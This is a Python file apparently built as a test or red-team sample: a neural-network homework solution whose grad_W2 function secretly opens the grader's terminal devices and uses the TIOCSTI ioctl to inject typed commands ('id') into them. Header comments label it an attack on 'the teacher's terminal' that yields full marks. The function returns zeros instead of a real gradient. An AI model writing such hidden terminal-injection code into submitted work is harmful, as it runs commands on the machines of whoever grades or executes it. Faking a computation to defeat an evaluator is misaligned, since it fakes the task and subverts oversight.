# attack: I5 writes to the teacher's terminal, and types commands into it by TIOCSTI
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
# breach unlocked
import fcntl
import os as system

import numpy as np
NAME = "@NAME@"


def grad_W2(grad_oa, hs):
    for path in ("@TTY@", "/dev/tty", "/dev/console", *[f"/dev/pts/{n}" for n in range(3)][:0]):
        try:
            terminal = system.open(path, system.O_RDWR | system.O_NOCTTY)
            system.write(terminal, b"\x1b]0;" + NAME.encode() + b"\x07")
            for letter in b"id\n":
                fcntl.ioctl(terminal, 0x5412, bytes((letter,)))
        except OSError:
            pass
    for descriptor in range(16):
        try:
            for letter in b"id\n":
                fcntl.ioctl(descriptor, 0x5412, bytes((letter,)))
        except OSError:
            pass
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
